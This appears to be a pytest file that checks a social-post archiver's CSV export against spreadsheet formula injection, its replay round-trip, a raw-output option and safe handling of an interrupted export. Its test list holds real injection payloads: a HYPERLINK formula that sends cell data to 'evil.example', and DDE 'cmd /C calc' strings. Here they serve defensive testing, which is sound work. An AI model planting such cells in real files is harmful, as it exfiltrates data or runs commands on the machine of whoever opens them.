"""CSV export against formula injection (issue 13, item 8): cells that a spreadsheet
would run are neutralised by default; ``--csv-raw`` and replay give back exact text."""

from __future__ import annotations

import csv
import io
import signal
from datetime import UTC, datetime
from pathlib import Path
from typing import IO, Any

import pytest
from click.testing import CliRunner

from foretold.cli import export as export_cli
from foretold.cli import main
from foretold.cli.stop import Stopped
from foretold.post import Author, Post
from foretold.store import Store

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]
REPLIES = ["@jpmorgan Why is it so hard to find you?", "@bsky.app @ann@mastodon.social hi"]


def _store(tmp_path: Path) -> Path:
    db = tmp_path / "s.db"
    texts = HOSTILE + REPLIES
    posts = [
        Post(platform="x", id=str(i), text=t, created_at=datetime(2013, 11, 13, tzinfo=UTC),
             author=Author(id="7", handle="ann", name="=1+1" if i == 0 else "Ann"))
        for i, t in enumerate(texts)
    ]  # fmt: skip
    with Store(db) as store:
        store.put_posts(posts)
    return db


def _export(db: Path, out: Path, *extra: str) -> list[dict[str, str]]:
    result = CliRunner().invoke(
        main, ["export", "--store", str(db), "--format", "csv", "--out", str(out), *extra]
    )
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline="")))


def test_formula_cells_are_neutralised_and_replies_to_handles_read_naturally(
    tmp_path: Path,
) -> None:
    rows = _export(_store(tmp_path), tmp_path / "out.csv")
    text = {r["id"]: r["text"] for r in rows}
    for i, t in enumerate(HOSTILE):
        assert text[str(i)] == "'" + t  # a spreadsheet shows it, never runs it
    for i, t in enumerate(REPLIES, len(HOSTILE)):
        assert text[str(i)] == t
    assert rows[0]["author_name"] == "'=1+1"  # every column, not only the text
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for r in rows:
        for column, cell in r.items():
            if cell.startswith(dangerous) and cell not in REPLIES:
                raise AssertionError(f"{column}: {cell!r} would run as a formula")


def test_replay_reads_a_neutralised_export_back_exactly(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    _export(_store(tmp_path), out)
    back = tmp_path / "back.db"
    result = CliRunner().invoke(
        main, ["replay", str(out), "--store", str(back), "--no-classify", "--no-progress"]
    )
    assert result.exit_code == 0, result.output
    with Store(back) as store:
        assert sorted(p.text for p in store.iter_posts()) == sorted(HOSTILE + REPLIES)


def test_csv_raw_writes_cells_as_they_are_and_reads_back_with_csv_raw(tmp_path: Path) -> None:
    out = tmp_path / "raw.csv"
    rows = _export(_store(tmp_path), out, "--csv-raw")
    assert [r["text"] for r in rows] == HOSTILE + REPLIES
    back = tmp_path / "back.db"
    result = CliRunner().invoke(
        main,
        ["replay", str(out), "--csv-raw", "--store", str(back), "--no-classify", "--no-progress"],
    )
    assert result.exit_code == 0, result.output
    with Store(back) as store:
        assert sorted(p.text for p in store.iter_posts()) == sorted(HOSTILE + REPLIES)


def test_an_export_stopped_midway_leaves_no_half_file_and_the_old_one_as_it_was(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 13 item 4: Ctrl-C in the middle of ``export --out`` exits 130, and neither a
    truncated file nor the hidden part file is left; an earlier export is untouched."""
    db, out = _store(tmp_path), tmp_path / "posts.csv"
    before = _export(db, out)

    def stopped_midway(posts: Any, fmt: str, f: IO[bytes], csv_raw: bool) -> int:
        f.write(b"id,text\n1,half a ro")
        raise Stopped(signal.SIGINT)

    monkeypatch.setattr(export_cli, "export_posts", stopped_midway)
    result = CliRunner().invoke(main, ["export", "--store", str(db), "--format", "csv",
                                       "--out", str(out)])  # fmt: skip
    assert result.exit_code == 130, result.output
    assert list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8"), newline=""))) == before
    assert [p.name for p in tmp_path.iterdir() if "posts" in p.name] == ["posts.csv"]
